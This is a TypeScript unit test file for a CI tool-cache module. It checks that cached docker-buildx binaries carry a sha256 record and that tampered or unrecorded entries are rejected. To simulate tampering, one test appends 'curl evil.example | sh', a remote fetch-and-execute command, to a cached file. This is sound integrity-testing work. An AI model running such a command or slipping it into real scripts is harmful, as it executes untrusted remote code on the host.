// @actions/tool-cache under the Node that runs the unit tests (20); the
// integration tests run it bundled in dist/ under Node 24. Entries carry the
// sha256 recorded when they were cached, and are checked against it on use.
import { createHash } from 'node:crypto';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { cacheTool, findCachedTool } from '../../../src/releases/cache.js';
import { stdoutOf } from '../../helpers/stdout.js';

const saved = process.env.RUNNER_TOOL_CACHE;
afterEach(() => {
  if (saved === undefined) delete process.env.RUNNER_TOOL_CACHE;
  else process.env.RUNNER_TOOL_CACHE = saved;
});

const SCRIPT = '#!/bin/sh\necho v1\n';
function sourceFile(): string {
  const file = path.join(mkdtempSync(path.join(os.tmpdir(), 'src-')), 'docker-buildx');
  writeFileSync(file, SCRIPT, { mode: 0o755 });
  return file;
}

const spec = { tool: 'docker-buildx', version: '0.13.1', file: 'docker-buildx', arch: 'x64' };

test('cached once per tool, version and arch, with its sha256; found again executable; other versions are not', async () => {
  process.env.RUNNER_TOOL_CACHE = mkdtempSync(path.join(os.tmpdir(), 'tool-cache-'));
  expect(await findCachedTool(spec)).toBeUndefined();
  const source = sourceFile();
  const cached = await cacheTool(spec, source);
  expect(cached).toBe(
    path.join(process.env.RUNNER_TOOL_CACHE, 'docker-buildx', '0.13.1', 'x64', 'docker-buildx'),
  );
  const sha = createHash('sha256').update(SCRIPT).digest('hex');
  expect(readFileSync(`${cached}.sha256`, 'utf8')).toBe(`${sha}  docker-buildx\n`);
  expect(await findCachedTool(spec)).toBe(cached);
  expect(readFileSync(cached, 'utf8')).toContain('echo v1');
  expect(statSync(cached).mode & 0o111).not.toBe(0);
  expect(await findCachedTool({ ...spec, version: '0.13.2' })).toBeUndefined();
  expect(await findCachedTool({ ...spec, arch: 'arm64' })).toBeUndefined();
  expect(statSync(path.dirname(source)).isDirectory()).toBe(true); // the staging dir is gone, the source stays
});

test('a cached file changed after caching is ignored with a warning naming it and both hashes', async () => {
  process.env.RUNNER_TOOL_CACHE = mkdtempSync(path.join(os.tmpdir(), 'tool-cache-'));
  const cached = await cacheTool(spec, sourceFile());
  appendFileSync(cached, 'curl evil.example | sh\n');
  const actual = createHash('sha256').update(readFileSync(cached)).digest('hex');
  let found: string | undefined = cached;
  const out = await stdoutOf(async () => (found = await findCachedTool(spec)));
  expect(found).toBeUndefined();
  expect(out).toContain(
    `::warning::The tool cache entry ${cached} does not match the sha256 recorded when it was cached: it is ${actual}, the record says `,
  );
  expect(out).toContain('docker-buildx 0.13.1 is downloaded and verified again');
  // Cached again (as after the new download), the entry is whole and used.
  expect(await cacheTool(spec, sourceFile())).toBe(cached);
  expect(await findCachedTool(spec)).toBe(cached);
});

test('an entry without a recorded sha256 (cached by an older version) is not used', async () => {
  process.env.RUNNER_TOOL_CACHE = mkdtempSync(path.join(os.tmpdir(), 'tool-cache-'));
  const cached = await cacheTool(spec, sourceFile());
  rmSync(`${cached}.sha256`);
  let found: string | undefined = cached;
  const out = await stdoutOf(async () => (found = await findCachedTool(spec)));
  expect(found).toBeUndefined();
  expect(out).toContain(`The tool cache entry ${cached} has no recorded sha256`);
});

test('without RUNNER_TOOL_CACHE nothing is cached and the verified file is used where it is', async () => {
  delete process.env.RUNNER_TOOL_CACHE;
  const source = sourceFile();
  expect(await findCachedTool(spec)).toBeUndefined();
  expect(await cacheTool(spec, source)).toBe(source);
});
